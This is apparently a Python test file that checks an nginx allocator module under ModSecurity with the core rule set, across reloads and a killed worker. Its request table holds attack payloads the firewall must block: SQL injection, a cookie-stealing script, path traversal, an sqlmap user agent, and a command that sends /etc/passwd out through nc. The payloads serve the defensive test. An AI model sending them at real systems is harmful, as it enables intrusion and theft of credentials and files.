"""ModSecurity with the core rule set on the module: 14,000 small blocks a
request of libmodsecurity's and libstdc++'s, made by the master's configuration
and by requests, freed in either order."""
import glob
import json
import pathlib
import unittest
import urllib.parse

import nginx_server
from nginx_case import Case, FILES, PAGE, SITE, listed
from nginx_server import Load
from test_modules import needs

SETUP = "/etc/modsecurity/crs/crs-setup.conf"
RULES = f"""
SecRuleEngine On
SecRequestBodyAccess On
SecResponseBodyAccess On
SecResponseBodyMimeType text/plain
SecAuditEngine RelevantOnly
SecAuditLogParts ABFHZ
SecAuditLogType Serial
SecAuditLog @PREFIX@/audit.log
SecTmpDir @PREFIX@/temp
SecDataDir @PREFIX@/temp
SecArgumentSeparator &
SecCookieFormat 0
SecRule REQUEST_HEADERS:Content-Type "application/json" \\
    "id:200001,phase:1,t:none,t:lowercase,pass,nolog,\\
    ctl:requestBodyProcessor=JSON"
Include {SETUP}
Include /usr/share/modsecurity-crs/rules/*.conf
"""
FILTER = SITE + """
    server {
        listen 127.0.0.1:@WAF@;
        default_type text/plain;
        modsecurity on;
        modsecurity_rules_file @PREFIX@/rules.conf;
        root html;
        location /proxy/ { proxy_pass http://127.0.0.1:@SINK@/; }
    }
    server { listen 127.0.0.1:@SINK@; location / { return 200 "taken"; } }
"""
OBJECTS = listed("ModSecurity")
AGENT = {"User-Agent": "Mozilla/5.0 (X11; Linux x86_64)", "Accept": "*/*",
         "Host": "localhost"}
FORM = {"Content-Type": "application/x-www-form-urlencoded", **AGENT}
JSON = {"Content-Type": "application/json", **AGENT}


def query(**words):
    return "?" + urllib.parse.urlencode(words)


# (what, status, method, path, headers, body)
REQUESTS = [
    ("a page", 200, "GET", "/f1000", AGENT, None),
    ("arguments", 200, "GET", "/f1000" + query(
        **{f"name{n}": "word " * n for n in range(40)}), AGENT, None),
    ("many headers", 200, "GET", "/f1", {
        **AGENT, **{f"X-Header-{n}": "v" * n for n in range(40)}}, None),
    ("cookies", 200, "GET", "/f1", {
        **AGENT, "Cookie": "; ".join(f"c{n}=v{n}" for n in range(40))}, None),
    ("a form", 200, "POST", "/proxy/", FORM, urllib.parse.urlencode(
        {f"field{n}": f"value {n}" * 5 for n in range(100)})),
    ("JSON", 200, "POST", "/proxy/", JSON, json.dumps(
        {"list": [{"name": f"n{n}", "at": n} for n in range(100)]})),
    ("no file", 404, "GET", "/none", AGENT, None),
    ("SQL", 403, "GET", "/f1" + query(
        id="1' UNION SELECT password FROM users WHERE '1'='1' --"), AGENT,
     None),
    ("a script", 403, "GET", "/f1" + query(
        text="<script>alert(document.cookie)</script>"), AGENT, None),
    ("another directory", 403, "GET", "/f1" + query(
        file="../../../../etc/passwd"), AGENT, None),
    ("a command", 403, "POST", "/proxy/", FORM, urllib.parse.urlencode(
        {"run": "; cat /etc/passwd | nc 10.0.0.1 80"})),
    ("a scanner", 403, "GET", "/f1", {**AGENT, "User-Agent": "sqlmap/1.0"},
     None),
]


@needs("ngx_http_modsecurity_module")
@unittest.skipUnless(
    pathlib.Path(SETUP).exists()
    and glob.glob("/usr/share/modsecurity-crs/rules/*.conf"),
    "without modsecurity-crs")
class Filter(Case):

    def filter(self, main, **options):
        nginx = nginx_server.Server(
            FILTER.replace("@ECHO@", "1"), main, start=False, patience=60,
            modules=("ngx_http_modsecurity_module",), **options)
        self.addCleanup(nginx.destroy)
        for name, data in FILES.items():
            nginx.write(f"html/{name}", data)
        nginx.write("rules.conf",
                    RULES.replace("@PREFIX@", str(nginx.prefix)))
        nginx.start()
        return nginx

    def asked(self, nginx, times=1):
        """Every request is answered as it should be."""
        for _ in range(times):
            for what, status, method, path, headers, body in REQUESTS:
                with self.subTest(what):
                    self.assertEqual(
                        nginx.get(path, "WAF", method=method, body=body,
                                  headers=headers)[0], status)

    def all_of_it(self, main):
        nginx = self.filter(main)
        self.asked(nginx, 5)
        with Load(nginx, "/f1000", PAGE, port="WAF", threads=2):
            for _ in range(3):
                old = nginx.workers()
                nginx.reload()
                self.asked(nginx)
        nginx.gone(old)
        nginx.stop()
        # 5 rounds and 3; what was refused stands in the audit log.
        refused = sum(status == 403 for _, status, *_ in REQUESTS)
        audit = (nginx.prefix / "audit.log").read_text(errors="replace")
        self.assertGreaterEqual(audit.count("---A--"), 8 * refused)
        return nginx

    def test_stock(self):
        """The requests are what this test takes them for."""
        self.asked(self.filter("hakmem off;"))

    def test_beside(self):
        """Its objects are not served; nginx and libcrypto are."""
        self.all_of_it("")

    def test_on_the_module(self):
        nginx = self.all_of_it(OBJECTS)
        for name in ("libmodsecurity", "libstdc++"):
            self.assertTrue(nginx.find(rf"\[notice\].*hakmem.*{name}.*slots?"),
                            nginx.story())

    def test_tiny_lane_alone(self):
        self.all_of_it(OBJECTS + " hakmem_lanes tiny;")

    def test_a_killed_worker(self):
        nginx = self.filter(OBJECTS, workers=1,
                            expected=[r"exited on signal 9"])
        self.asked(nginx)
        pid = nginx.worker()
        nginx.signal("KILL", pid)
        nginx_server.until(60, "another worker", lambda: nginx.workers()
                           and nginx.workers() != [pid])
        self.asked(nginx)
        nginx.stop()


if __name__ == "__main__":
    unittest.main()
